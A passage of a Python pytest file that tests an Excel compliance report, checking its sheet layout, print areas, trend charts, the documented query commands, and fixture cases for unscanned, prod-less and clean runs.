        for sheet in report.parts(title):
            assert sheet.freeze_panes == "A3", title
            assert sheet.print_title_rows in ("1:2", "$1:$2")
            assert sheet.page_setup.orientation == "landscape"
            assert sheet.sheet_properties.pageSetUpPr.fitToPage
            assert sheet.sheet_properties.tabColor is not None
            if report.query(SHEETS[title][0]):
                assert sheet.auto_filter.ref.startswith("A2:")


# The last column that is printed; of other sheets all are, and the charts beside Trend.
PRINTED = {"Changes": "Now", "Non-compliant": "Waiver", "Coverage": "Oldest of these",
           "Rules not read": "Oldest of these"}


@pytest.mark.parametrize("title", PRINTED)
def test_paper_leaves_out_what_is_of_use_on_a_screen_alone(report, title):
    for sheet in report.parts(title) if report.query(SHEETS[title][0]) else ():
        header = [cell.value for cell in sheet[2]]
        area = sheet.print_area if isinstance(sheet.print_area, str) else sheet.print_area[0]
        last = re.fullmatch(r".*\$?A\$?1:\$?([A-Z])\$?(\d+)", area)
        assert header[ord(last[1]) - ord("A")] == PRINTED[title]
        assert sheet.max_row <= int(last[2]) <= sheet.max_row + 1


def charts_of(path):
    with zipfile.ZipFile(path) as package:
        names = sorted(n for n in package.namelist() if n.startswith("xl/charts/chart"))
        return [xml.dom.minidom.parseString(package.read(name)) for name in names]


def test_charts_show_the_trend_with_gaps(newest, history):
    rows = query(history, "sheet_trend", newest.group_id)
    lines = [chart for chart in charts_of(newest.path) if chart.getElementsByTagName("c:lineChart")]
    assert len(lines) == 2  # on Summary and on Trend
    for chart in lines:
        series = chart.getElementsByTagName("c:ser")
        assert len(series) == 3
        for element, column, letter in zip(
                series, ("prod_ratio", "nonprod_ratio", "unclassified_ratio"), "CEG"):
            values = element.getElementsByTagName("c:val")[0]
            reference = values.getElementsByTagName("c:f")[0].firstChild.data
            assert reference == f"Trend!${letter}$3:${letter}${len(rows) + 2}"
            points_ = {int(p.getAttribute("idx")): float(p.firstChild.firstChild.data)
                       for p in values.getElementsByTagName("c:pt")}
            assert points_ == {i: pytest.approx(row[column]) for i, row in enumerate(rows)
                               if row[column] is not None}
    assert rows[3]["nonprod_ratio"] is None


def test_about_names_the_query_behind_every_sheet(report):
    about = [(row[0].value, str(row[1].value)) for row in report.book["About"].iter_rows()]

    def command(name):
        found = [text_ for label, text_ in about if f"confhouse query {name} " in text_]
        assert len(found) == 1, name
        return found[0]

    def params(name):
        words = shlex.split(command(name).splitlines()[1])
        assert words[:3] == ["confhouse", "query", name] and words[3::2] == ["-p"] * (len(words[3:]) // 2)
        return dict(word.split("=", 1) for word in words[4::2])

    for title, (name, _, _) in SHEETS.items():
        rows = len(report.query(name))
        assert (title, command(name)) in about and f" {rows} row" in command(name)
        documented = open(os.path.join(ROOT, "queries", name + ".sql"), encoding="utf-8").read()
        assert params(name) == {"group_id": report.group_id,
                                **{key: value for key, value in report.narrowed.items()
                                   if f"-- param {key}:" in documented}}
    for name, _, _ in SECTIONS.values():
        assert ("Summary", command(name)) in about


def test_a_narrowed_report_says_so(report):
    lines = [str(report.book["Summary"].cell(row, 2).value) for row in range(1, 7)]
    said = [line for line in lines if line.startswith("\u25c6")]
    assert len(said) == bool(report.narrowed)
    for value in report.narrowed.values():
        assert (WORDS.get(value, value) or "nobody") in said[0]


def test_an_organization_without_prod_shows_so():
    report = Report("report-fixture-noprod.xlsx")
    sheet = report.book["Summary"]
    prod = next(row for row in sheet.iter_rows(min_col=2, max_col=11) if row[0].value == "Prod")
    assert [cell.value for cell in prod] == [
        "Prod", 0, DASH, DASH, DASH, DASH, DASH, DASH, DASH, "No accounts"]
    assert report.query("sheet_trend")[-1]["note"] == "Some scopes not read; some rules not read"
    names = [element.firstChild.data for chart in charts_of(report.path)
             for element in chart.getElementsByTagName("c:v")]
    assert "Prod" not in names and "Non-Prod" in names


def test_a_run_without_anything_read_shows_nothing_as_compliant():
    report = Report("report-fixture-unscanned.xlsx")
    sheet = report.book["Summary"]
    assert sheet["B3"].value.startswith("\u25b2 0 of 14 scopes")
    for row in list(sheet.iter_rows(min_row=8, max_row=10, min_col=2, max_col=11)):
        assert row[6].value == "not read" and row[9].value == "\u25cb Not read", row[0].value
        assert [cell.value for cell in row[2:6]] == [DASH] * 4
    texts = {cell.value for row in sheet.iter_rows() for cell in row}
    assert {"Not known: no rule was read.", "Not known: no account was read."} <= texts
    assert is_note(report.book["Non-compliant"][3])
    assert is_note(report.book["Changes"][3]) # nothing is resolved because nobody looked
    assert {row[0].value for row in report.book["Coverage"].iter_rows(min_row=3)} == {
        "Nothing received"}
    assert report.query("sheet_trend")[-1]["note"] == \
        "Prod, Non-Prod and Unclassified not read"


def test_a_run_without_findings_says_so():
    report = Report("report-fixture-clean.xlsx")
    sheet = report.book["Summary"]
    texts = {cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert ("No rule that was read has an open finding that is not waived; not all were read."
            in texts)
    assert "\u25cf On target, partly read" in texts and not any("Act" in str(text_) for text_ in texts)
    assert report.book["Non-compliant"]["A3"].value == "No open findings in what was read."
    assert all(chart.getElementsByTagName("c:lineChart") for chart in charts_of(report.path))
